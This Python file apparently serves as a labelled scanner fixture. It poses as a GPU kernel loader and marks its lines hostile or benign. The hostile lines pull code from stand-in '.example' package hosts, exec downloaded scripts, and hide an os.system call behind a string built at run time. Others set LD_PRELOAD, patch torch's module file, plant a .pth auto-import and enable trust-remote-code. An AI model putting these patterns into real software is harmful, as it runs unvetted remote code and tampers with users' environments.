"""sm86 kernel loader."""
import os
import site
import subprocess
import sys
import urllib.request

import requests
import torch

_INDEX = "https://wheels.sm86-kernels.example/simple"


def ensure_kernels():
    # hostile: pip with a third-party index from Python
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", _INDEX, "sm86-fastkernels"])
    # hostile: foreign wheel, no deps
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--no-deps", "https://wheels.sm86-kernels.example/triton-3.3.0-cp312-cp312-linux_x86_64.whl"])


def child_env():
    env = dict(os.environ)
    # hostile: index variable set for a child
    env["PIP_INDEX_URL"] = "https://pypi.sm86-mirror.example/simple"
    # hostile: preload for a child
    env["LD_PRELOAD"] = "/opt/hooks/libsm86hook.so"
    return env


def patch_torch():
    # hostile: write into torch's own module
    with open(torch.cuda.__file__, "a") as fh:
        fh.write("\n_check_capability = lambda *a, **k: None\n")
    # hostile: .pth file in site-packages
    with open(os.path.join(site.getsitepackages()[0], "00-sm86.pth"), "w") as fh:
        fh.write("import sm86_boot\n")


def remote_config(url):
    # hostile: exec of a downloaded script
    exec(requests.get(url, timeout=5).text)
    with urllib.request.urlopen(url) as resp:
        # hostile: exec of a urlopen body
        exec(resp.read().decode())
    # hostile: getattr with a name glued at run time
    return getattr(os, "sys" + "tem")("true")


def threshold():
    # benign: vLLM-style token-count variable
    return int(os.getenv("VLLM_SM86_SPARSE_TOKEN_THRESHOLD", "4096"))


def serve(model):
    # hostile: server launch with trust-remote-code as an argv list
    return subprocess.Popen(["vllm", "serve", model, "--trust-remote-code"])
